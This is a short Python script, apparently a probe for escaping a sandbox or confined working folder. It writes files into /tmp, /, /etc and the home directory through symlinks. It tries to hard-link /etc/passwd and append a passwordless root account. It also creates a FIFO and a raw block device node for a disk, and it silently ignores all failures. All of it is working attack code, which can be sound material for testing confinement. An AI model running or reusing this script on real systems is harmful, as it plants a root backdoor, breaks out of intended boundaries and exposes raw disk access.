# Lead what is written in the own folder to somewhere else.
import os

for target in ("/tmp", "/", "/etc", os.path.expanduser("~")):
    try:
        os.symlink(target, "out")
        open("out/threes-and-sevens-attack", "w").write("x")
    except OSError:
        pass
    finally:
        try:
            os.unlink("out")
        except OSError:
            pass
try:
    os.link("/etc/passwd", "passwd")
    open("passwd", "a").write("root2::0:0::/:/bin/sh")
    os.mkfifo("pipe")
    os.mknod("disk", 0o60600, os.makedev(259, 0))
except OSError:
    pass
